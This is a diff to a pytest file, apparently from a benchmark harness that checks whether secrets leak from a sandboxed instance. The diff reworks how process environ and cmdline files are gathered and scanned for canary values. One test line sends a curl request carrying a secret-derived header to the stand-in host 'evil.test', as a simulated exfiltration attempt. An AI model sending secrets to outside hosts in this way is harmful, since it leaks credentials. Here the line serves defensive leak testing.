@@ -9,7 +9,6 @@ import signal
 
 import pytest
 from egress_bench import ALLOWED, S1, S2, SECRETS, Box, forms_of
-from harness import leaks
 from harness.instance import alive, wait_until
 
 
@@ -51,14 +50,14 @@ def test_case_81_canary_search(lab, box):
     box.curl("https://evil.test/canary", "-H", f"x: {p1}")
     canaries = [form for value in (S1, S2) for form in forms_of(value)]
     places = [*lab.instance.state.rglob("*")]
-    for pid in leaks.pids():
-        if pathlib.Path(f"/proc/{pid}/comm").read_text().startswith("casemate"):
-            places += [pathlib.Path(f"/proc/{pid}/{name}") for name in ("environ", "cmdline")]
+    for process in (lab.instance.pid, *lab.instance.descendants()):
+        places += [pathlib.Path(f"/proc/{process}/{name}") for name in ("environ", "cmdline")]
     checked = 0
     for place in places:
-        if not place.is_file():
-            continue
-        data = place.read_bytes() if place.stat().st_size < 64 << 20 else b""
+        try:
+            data = place.read_bytes() if place.stat().st_size < 64 << 20 else b""
+        except (OSError, ProcessLookupError):
+            continue  # a folder, or a process that just ended
         checked += 1
         assert not any(canary in data for canary in canaries), place
     assert checked > 4
